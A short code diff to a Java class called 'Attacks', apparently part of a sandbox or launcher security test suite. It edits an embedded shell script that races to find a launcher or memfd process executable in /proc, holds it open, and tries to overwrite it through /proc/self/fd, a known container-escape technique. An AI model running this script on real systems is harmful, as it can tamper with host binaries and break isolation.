@@ -16,10 +16,13 @@ final class Attacks {
    */
   private static final String EXE_SCRIPT =
       """
-      for exe in /proc/[0-9]*/exe; do
-        case $(readlink $exe) in
-          */launcher | /memfd:*) exec 9< $exe ;;
-        esac
+      for scan in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
+        for exe in /proc/[0-9]*/exe; do
+          case $(readlink $exe) in
+            */launcher | /memfd:*) exec 9< $exe && break 2 ;;
+          esac
+        done
+        sleep 0.02
       done
       for try in 1 2 3 4 5 6 7 8; do
         { echo %s > /proc/self/fd/9; } 2> /dev/null && echo overwritten && break
